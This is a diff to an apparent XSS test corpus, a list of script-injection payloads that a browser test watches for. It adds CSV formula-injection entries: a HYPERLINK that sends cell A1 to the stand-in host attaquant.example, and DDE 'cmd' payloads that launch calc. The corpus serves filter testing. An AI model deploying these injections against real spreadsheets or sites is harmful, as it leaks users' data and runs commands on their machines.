@@ -1,5 +1,6 @@
 """The XSS corpus: the constructs browsers run, in the forms filters miss. Each payload calls `__xss()` or opens
-a dialog (`alert`, `confirm`, `prompt`), which the browser test watches for."""
+a dialog (`alert`, `confirm`, `prompt`), which the browser test watches for; the last ones are the formulas a
+spreadsheet would run from a CSV export."""
 
 from __future__ import annotations
 
@@ -120,6 +121,11 @@ _TEMPLATES_AND_ENCODINGS = [
     "<img src=x\u3000onerror={a}>",
     "javascript:{a}",
     "data:text/html,<script>{a}</script>",
+    # Spreadsheet formulas, for the CSV exports.
+    '=HYPERLINK("https://attaquant.example/?"&A1,"Cliquez")',
+    "+{a}",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
 ]
 
 
